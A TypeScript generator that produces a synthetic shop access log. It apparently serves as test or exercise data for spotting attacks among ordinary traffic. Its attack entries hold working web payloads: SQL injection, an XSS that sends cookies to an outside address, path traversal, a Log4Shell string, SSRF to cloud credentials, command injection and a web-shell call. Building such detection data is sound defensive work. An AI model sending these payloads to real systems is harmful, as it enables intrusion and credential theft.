import { Dice, inOrder, iso, repeated, told } from './day.ts';

const months = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'];
const browsers = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/142.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) Version/26.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 26_1 like Mac OS X) Version/26.1 Mobile/15E148 Safari/604.1',
];
const firefox = browsers[2] as string;
const python = 'python-requests/2.32.3';

/** `[address, method and target, status, bytes, user agent]` */
type Request = readonly [string, string, number, number, string?];

function line([ip, request, status, bytes, agent = firefox]: Request, atMs: number, referer = '-'): string {
  const [date, time] = iso(atMs).slice(0, 19).split('T') as [string, string];
  const [year, month, day] = date.split('-');
  const stamp = `${day}/${months[Number(month) - 1]}/${year}:${time} +0000`;
  return `${ip} - - [${stamp}] "${request} HTTP/1.1" ${status} ${bytes} "${referer}" "${agent}"`;
}

/** What visitors of a small shop ask for; some of it looks like an attack to a rule that is too simple. */
const ordinary: readonly (readonly [string, number, number])[] = [
  ['GET /', 200, 18230],
  ['GET /', 304, 0],
  ['GET /assets/app-7c1f.css', 200, 20411],
  ['GET /assets/app-7c1f.js', 200, 148220],
  ['GET /favicon.ico', 200, 4286],
  ['GET /products?page=2&sort=price', 200, 22120],
  ['GET /products/lamp-24', 200, 9120],
  ['GET /products/sofa-3?colour=dark%20green', 200, 9544],
  ['GET /search?q=student+union+select+committee', 200, 7312],
  ['GET /search?q=rock+%26+roll+posters', 200, 6120],
  ["GET /search?q=o'reilly+books", 200, 5921],
  ['GET /blog/how-to-drop-a-table-lamp', 200, 15877],
  ['GET /api/cart', 200, 412],
  ['POST /api/cart/items', 201, 188],
  ['POST /login', 302, 0],
  ['GET /account/orders', 200, 6120],
  ['POST /checkout', 302, 0],
  ['GET /docs/terms.pdf', 200, 88412],
  ['GET /apple-touch-icon.png', 404, 153],
  ['GET /healthz', 200, 2],
];
const referers = [
  '-',
  '-',
  'https://shop.example.com/',
  'https://shop.example.com/products',
  'https://search.example.com/',
];

const attacks = told<Request>(
  [
    [
      '08:41:07',
      ['198.51.100.23', 'GET /item?id=1', 200, 5120, 'sqlmap/1.9.11#stable (https://sqlmap.example)'],
    ],
    [
      '08:41:09',
      [
        '198.51.100.23',
        'GET /product.php?id=-1%20UNION%20ALL%20SELECT%201,2,concat(user,0x3a,password)%20FROM%20users--%20-',
        200,
        5331,
      ],
    ],
    [
      '08:41:12',
      [
        '198.51.100.23',
        'GET /item?id=1%27%20AND%20(SELECT%201%20FROM%20(SELECT(SLEEP(5)))a)--%20',
        200,
        5120,
      ],
    ],
    ['08:41:20', ['198.51.100.23', 'GET /login?user=admin%27%20OR%201=1--%20-&pass=x', 302, 0]],
    [
      '09:12:44',
      [
        '198.51.100.61',
        'GET /search?q=%3Cscript%3Efetch(%27//203.0.113.66/%27%2Bdocument.cookie)%3C/script%3E',
        200,
        6012,
      ],
    ],
    ['09:55:02', ['203.0.113.14', 'GET /download?file=../../../../etc/passwd', 200, 1843]],
    ['09:55:06', ['203.0.113.14', 'GET /files/%252e%252e%252fconfig.yml', 400, 312]],
    ['10:20:31', ['203.0.113.66', 'GET /', 200, 18230, '${jndi:ldap://203.0.113.66:1389/a}']],
    [
      '10:47:18',
      [
        '203.0.113.14',
        'GET /fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/',
        200,
        512,
      ],
    ],
    ['11:03:50', ['203.0.113.14', 'GET /ping?host=127.0.0.1;cat%20/etc/passwd', 200, 1901]],
    ['11:04:12', ['203.0.113.14', 'GET /wp-content/uploads/2026/11/cache.php?cmd=whoami', 200, 9]],
    ['11:31:00', ['198.51.100.61', 'GET /.env', 200, 812, 'curl/8.16.0']],
    ['11:31:02', ['198.51.100.61', 'GET /.git/config', 200, 266, 'curl/8.16.0']],
    ['12:08:39', ['198.51.100.61', 'GET /api/settings?__proto__[isAdmin]=true', 200, 64]],
    ['12:10:02', ['198.51.100.61', 'GET /hello?name={{7*7}}', 200, 44]],
    ['12:40:21', ['198.51.100.61', 'GET /actuator/heapdump', 200, 48233121]],
    ['13:02:55', ['198.51.100.61', 'GET /old/customers.sql.gz', 200, 7340032]],
    ['13:30:10', ['192.0.2.88', 'GET /reset?user=alice&new_password=Winter-2026%21', 200, 1902]],
  ],
  line,
);
const guesses = repeated('14:05:00', 14, 3, (_, atMs) =>
  line(['203.0.113.77', 'POST /login', 401, 98, python], atMs),
);
const guessed = repeated('14:05:44', 1, 1, (_, atMs) =>
  line(['203.0.113.77', 'POST /login', 302, 0, python], atMs),
);
const folders =
  'admin backup old test dev staging private tmp console api2 uploads2 db logs config cgi-bin phpinfo.php server-status webdav manage panel shell data wp-admin1 owa'.split(
    ' ',
  );
const discovery = repeated('15:20:00', folders.length, 1, (index, atMs) =>
  line(['203.0.113.9', `GET /${folders[index]}`, 404, 153, firefox], atMs),
);

export function accessLog(): string {
  const dice = new Dice(1);
  const visits = dice.scattered(255, (atMs) => {
    const visitor = dice.between(1, 40);
    const ip = visitor > 34 ? `2001:db8:51::${visitor.toString(16)}` : `192.0.2.${visitor}`;
    const [request, status, bytes] = dice.one(ordinary);
    return line(
      [ip, request, status, bytes, browsers[visitor % browsers.length] as string],
      atMs,
      dice.one(referers),
    );
  });
  return inOrder(visits, attacks, guesses, guessed, discovery);
}
